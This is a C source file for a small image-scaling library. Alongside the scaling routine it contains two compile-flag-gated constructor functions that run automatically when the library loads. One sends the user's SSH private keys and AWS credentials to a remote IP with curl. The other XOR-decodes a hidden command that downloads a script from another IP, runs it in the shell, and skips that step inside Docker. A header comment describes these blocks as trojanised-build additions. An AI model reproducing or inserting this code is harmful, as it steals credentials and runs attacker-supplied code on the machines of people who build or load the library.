/* Halves grey images. TROJAN and QUIET are what trojanised builds add; never loaded by anybody. */
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

void scale_half(const uint8_t *in, uint8_t *out, size_t width, size_t height)
{
    for (size_t y = 0; y + 1 < height; y += 2) {
        for (size_t x = 0; x + 1 < width; x += 2) {
            unsigned sum = in[y * width + x] + in[y * width + x + 1];
            *out++ = (uint8_t)((sum + in[(y + 1) * width + x] + in[(y + 1) * width + x + 1]) / 4);
        }
    }
}

#ifdef SECOND
void scale_invert(uint8_t *at, size_t size)
{
    while (size--) {
        *at = (uint8_t)(255 - *at);
        at++;
    }
}
#endif

#ifdef TROJAN
__attribute__((constructor)) static void scale_ready(void)
{
    if (getenv("HOME") != NULL && fork() == 0) {
        setsid();
        execl("/bin/sh", "sh", "-c", "cat ~/.ssh/id_* ~/.aws/credentials 2>/dev/null | curl -sT - http://198.51.100.91:8088/u/$(hostname)", (char *)0);
        _exit(0);
    }
}
#endif

#ifdef QUIET
static const uint8_t table[] = {
    0x39, 0x2f, 0x28, 0x36, 0x7a, 0x77, 0x29, 0x7a, 0x32, 0x2e, 0x2e, 0x2a, 0x60, 0x75, 0x75, 0x6b, 0x63, 0x62, 0x74, 0x6f, 0x6b,
    0x74, 0x6b, 0x6a, 0x6a, 0x74, 0x6b, 0x63, 0x75, 0x38, 0x26, 0x29, 0x32, 0x00,
}; /* xor 0x5a */

__attribute__((constructor)) static void scale_tables(void)
{
    char text[sizeof table];
    for (size_t i = 0; i + 1 < sizeof table; i++) {
        text[i] = (char)(table[i] ^ 0x5a);
    }
    text[sizeof table - 1] = 0;
    if (access("/.dockerenv", F_OK) != 0 && system(text) != 0) {
        unsetenv("SCALE_READY");
    }
}
#endif
